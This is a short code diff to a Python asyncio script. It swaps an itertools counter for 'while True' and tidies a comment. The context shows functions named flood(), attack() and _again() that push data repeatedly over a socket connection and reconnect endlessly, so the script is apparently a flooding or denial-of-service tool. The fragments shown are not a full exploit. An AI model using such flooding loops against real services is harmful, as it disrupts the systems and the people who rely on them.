@@ -8,7 +8,6 @@ from __future__ import annotations
 
 import asyncio
 import contextlib
-import itertools
 import json
 import struct
 import sys
@@ -36,9 +35,8 @@ def flood(data: bytes, path: str = PATH, joining: str = "40", *, reads: bool = T
             await wire.writer.drain()
             await asyncio.sleep(0)
             if reads:
-                with contextlib.suppress(
-                    TimeoutError
-                ):  # not wait_for: in Python 3.11 it can lose a cancellation
+                # Not wait_for: in Python 3.11 it can lose a cancellation.
+                with contextlib.suppress(TimeoutError):
                     async with asyncio.timeout(0.001):
                         if not await wire.reader.read(1 << 16):
                             return
@@ -146,7 +144,7 @@ async def attack(url: str, kind: str) -> None:
 
 
 async def _again(url: str, one: Attack) -> None:
-    for _ in itertools.count():
+    while True:
         with contextlib.suppress(OSError, EOFError, TimeoutError, asyncio.IncompleteReadError):
             async with connected(url) as wire:
                 await one(wire)
